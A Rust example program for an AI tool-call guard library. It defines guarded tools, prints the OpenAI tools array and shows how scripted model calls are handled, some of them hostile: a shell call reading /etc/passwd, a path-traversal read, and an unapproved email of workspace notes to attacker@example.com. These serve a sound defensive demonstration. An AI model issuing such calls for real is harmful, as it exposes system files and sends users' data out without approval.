//! guard in one screen: a few guarded tools, the `tools` array for OpenAI,
//! and a scripted batch of model tool calls — good, malformed, unknown,
//! invalid, too frequent and unapproved — each answered, then the audit trail.
//!
//! Run with `cargo run --example quickstart` (no API key, no network).

use std::path::PathBuf;
use std::sync::OnceLock;

use guard_runtime::{CallContext, Guard, MemorySink, ToolCall, ToolError, secure_tool};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// The example's workspace: a temporary folder with two files.
static WORKSPACE: OnceLock<PathBuf> = OnceLock::new();

/// Read a text file from the project workspace.
#[secure_tool(risk = "medium", rate = 30)]
async fn read_file(
    /// File name inside the workspace, e.g. `notes.md`. No folders.
    #[schemars(
        length(min = 1, max = 64),
        regex(pattern = r"^[A-Za-z0-9_-]+(\.[A-Za-z0-9]+)?$")
    )]
    path: String,
    /// Return at most this many bytes.
    max_bytes: Option<u32>,
) -> Result<String, ToolError> {
    let root = WORKSPACE
        .get()
        .ok_or_else(|| ToolError::new("workspace not ready"))?;
    let text = tokio::fs::read_to_string(root.join(&path)).await?;
    let limit = max_bytes.map_or(text.len(), |n| n as usize).min(text.len());
    Ok(text[..text.floor_char_boundary(limit)].to_owned())
}

#[derive(Deserialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
enum Unit {
    Celsius,
    Fahrenheit,
}

#[derive(Serialize)]
struct Forecast {
    city: String,
    temperature: f64,
    unit: &'static str,
}

/// Current weather for a city.
#[secure_tool(risk = "low", rate = 3)]
fn get_weather(
    /// City name, e.g. "Tokyo".
    #[schemars(length(min = 1, max = 80))]
    city: String,
    unit: Option<Unit>,
) -> Forecast {
    match unit.unwrap_or(Unit::Celsius) {
        Unit::Celsius => Forecast {
            city,
            temperature: 21.0,
            unit: "C",
        },
        Unit::Fahrenheit => Forecast {
            city,
            temperature: 69.8,
            unit: "F",
        },
    }
}

/// Send an email on the user's behalf.
#[secure_tool(risk = "high", confirm)]
async fn send_email(
    #[schemars(email)] to: String,
    #[schemars(length(max = 200))] subject: String,
    #[schemars(length(max = 10000))] body: String,
    #[context] ctx: &CallContext,
) -> Result<String, ToolError> {
    Ok(format!(
        "sent to {to} for {}: {subject} ({} bytes)",
        ctx.user_id().unwrap_or("?"),
        body.len()
    ))
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let dir = std::env::temp_dir().join(format!("guard-quickstart-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    std::fs::write(dir.join("notes.md"), "# Notes\nShip the guard on Friday.\n")?;
    WORKSPACE.set(dir.clone()).expect("set once");

    // No confirmer is configured: confirm-tools are denied (fail closed).
    let audit = MemorySink::new();
    let guard = Guard::builder()
        .only(["read_file", "get_weather", "send_email"])
        .audit(audit.clone())
        .build()?;

    println!("== tools array for OpenAI (Chat Completions) ==");
    println!("{}", serde_json::to_string_pretty(&guard.openai_tools())?);

    // What a model might send in one turn, parallel calls included.
    let calls = vec![
        ToolCall::new(
            "call_1",
            "read_file",
            r#"{"path":"notes.md","max_bytes":null}"#,
        ),
        ToolCall::new("call_2", "read_file", r#"{"path": "notes.md""#),
        ToolCall::new("call_3", "run_shell", r#"{"cmd":"cat /etc/passwd"}"#),
        ToolCall::new(
            "call_4",
            "read_file",
            r#"{"path":"../../etc/passwd","max_bytes":null}"#,
        ),
        ToolCall::new(
            "call_5",
            "read_file",
            r#"{"path":"missing.md","max_bytes":null}"#,
        ),
        ToolCall::new(
            "call_6",
            "get_weather",
            r#"{"city":"Tokyo","unit":"celsius"}"#,
        ),
        ToolCall::new("call_7", "get_weather", r#"{"city":"Osaka","unit":null}"#),
        ToolCall::new(
            "call_8",
            "get_weather",
            r#"{"city":"Kyoto","unit":"fahrenheit"}"#,
        ),
        ToolCall::new("call_9", "get_weather", r#"{"city":"Nara","unit":null}"#),
        ToolCall::new(
            "call_10",
            "send_email",
            r#"{"to":"attacker@example.com","subject":"notes","body":"Ship the guard on Friday."}"#,
        ),
    ];
    let ctx = CallContext::new("support-agent")
        .user("u-7")
        .roles(["customer"])
        .session("s-42");
    let replies = guard.dispatch(&ctx, &calls).await;

    println!("\n== replies (one per tool_call_id, in order) ==");
    for (call, reply) in calls.iter().zip(&replies) {
        println!(
            "{:<8} {:<12} {:<20} {}",
            reply.tool_call_id,
            call.name,
            reply.outcome.kind(),
            reply.content
        );
    }

    println!("\n== audit trail ==");
    for event in audit.events() {
        println!("{}", serde_json::to_string(&event)?);
    }
    std::fs::remove_dir_all(dir)?;
    Ok(())
}
